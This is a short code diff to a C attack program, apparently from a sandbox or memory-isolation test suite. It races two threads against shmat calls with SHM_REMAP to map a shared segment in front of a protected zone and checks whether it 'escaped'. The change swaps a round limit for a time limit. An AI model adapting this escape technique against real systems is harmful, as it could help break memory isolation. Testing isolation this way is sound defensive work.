@@ -11,7 +11,8 @@ tries: "a shared segment attached in front of the zone, whose number comes to me
 #include "attack.h"
 #include <pthread.h>
 #include <sys/shm.h>
-#define ROUNDS 20000
+#include <time.h>
+#define SECONDS 4
 static const size_t too_long = (2ul << 30) + 4096;
 static volatile int turn, stop; /* odd: it is the second thread's */
 static int number, next;
@@ -64,7 +65,7 @@ int main(void) {
         pthread_t threads[2];
         pthread_create(&threads[0], NULL, swaps, NULL);
         pthread_create(&threads[1], NULL, maps, NULL);
-        for (int i = 0; i < ROUNDS && !escaped; i++) {
+        for (time_t end = time(NULL) + SECONDS; time(NULL) < end && !escaped;) {
             if (make(4096) != number) continue;
             turn++;
             void *got = shmat(number, in_front, SHM_REMAP);
